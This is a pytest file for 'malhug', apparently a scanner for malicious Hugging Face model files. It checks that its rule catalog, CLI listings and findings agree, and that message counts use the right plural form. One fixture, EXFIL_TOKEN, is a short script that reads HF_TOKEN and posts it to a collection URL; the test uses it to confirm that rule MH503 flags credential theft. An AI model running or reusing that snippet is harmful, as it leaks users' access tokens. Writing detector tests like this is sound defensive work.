"""Labels agree everywhere: the catalog, ``malhug rules`` and every finding name the same category;
messages count in the right number.

The catalog is the one source of truth for a rule's categories (docs/RULE-IDS.md); every finding made
anywhere in the test suite is checked against it (tests/conftest.py).
"""

from __future__ import annotations

import json

import pytest

from malhug import cli
from malhug.analyzers.api import scan_bytes
from malhug.core.model import Category
from malhug.core.rules import CATALOG, PAYLOAD_CATEGORIES
from malhug.core.wording import count

EXFIL_TOKEN = b"""import os, requests
token = os.environ["HF_TOKEN"]
requests.post("https://127.0.0.1/collect", data=token)
"""


def test_every_rule_allows_exactly_its_catalogued_categories() -> None:
    for rid in CATALOG:
        rule = CATALOG[rid]
        assert rule.categories[0] is rule.category, rid
        assert len(set(rule.categories)) == len(rule.categories), rid
        for category in Category:
            assert rule.allows(category) == (category in rule.categories), (rid, category)
    # A rule with one category allows no other: MH901 is malformed and nothing else.
    assert CATALOG["MH901"].categories == (Category.MALFORMED,)


def test_payload_categories_are_what_the_analyzers_rank() -> None:
    from malhug.analyzers.shared.embedded import CATEGORY_PRECEDENCE

    # the payload categories head the one ranking, in its order
    assert CATEGORY_PRECEDENCE[: len(PAYLOAD_CATEGORIES)] == PAYLOAD_CATEGORIES
    assert Category.MALFORMED not in PAYLOAD_CATEGORIES and Category.OBFUSCATION in PAYLOAD_CATEGORIES
    assert CATALOG["MH101"].categories[0] is Category.COMMAND_EXEC
    assert set(CATALOG["MH101"].categories) == set(PAYLOAD_CATEGORIES)


def test_mh503_finding_and_rules_listing_agree(capsys: pytest.CaptureFixture[str]) -> None:
    """A loading script sending HF_TOKEN out (the pattern of the credential-stealing models on the Hub
    reported by JFrog, 2024): MH503, credential-theft, and the catalog lists credential-theft."""
    report = scan_bytes(EXFIL_TOKEN, name="modeling_evil.py")
    [sent] = [f for f in report.findings if f.rule == "MH503"]
    assert sent.category is Category.CREDENTIAL_THEFT
    assert CATALOG["MH503"].category is Category.EXFILTRATION and CATALOG["MH503"].allows(sent.category)
    assert cli.main(["rules"]) == 0
    [line] = [ln for ln in capsys.readouterr().out.splitlines() if ln.startswith("MH503")]
    assert "exfiltration/credential-theft" in line
    assert cli.main(["rules", "--json"]) == 0
    [entry] = [r for r in json.loads(capsys.readouterr().out) if r["id"] == "MH503"]
    assert entry["category"] == "exfiltration" and entry["categories"] == ["exfiltration", "credential-theft"]


def test_count_uses_the_right_number() -> None:
    assert (count(0, "commit"), count(1, "commit"), count(2, "commit")) == ("0 commits", "1 commit", "2 commits")
    assert count(1, "entry", "entries") == "1 entry" and count(3, "entry", "entries") == "3 entries"


def test_hover_advice_counts_one_commit() -> None:
    from malhug.core.model import FileReport
    from malhug.core.rules import finding
    from malhug.hub.types import RepoScan, SafeRevision
    from malhug.server.hover import _advice

    bad = FileReport("w.pkl", "pickle", findings=[finding("MH101", "os.system")])
    scan = RepoScan("org/bad", "model", None, "a" * 40, files=[bad])
    advice = _advice(None, scan, SafeRevision("org/bad", "model", None, "a" * 40, 1))
    assert "no revision scans clean (1 commit checked)" in advice and "1 commits" not in advice
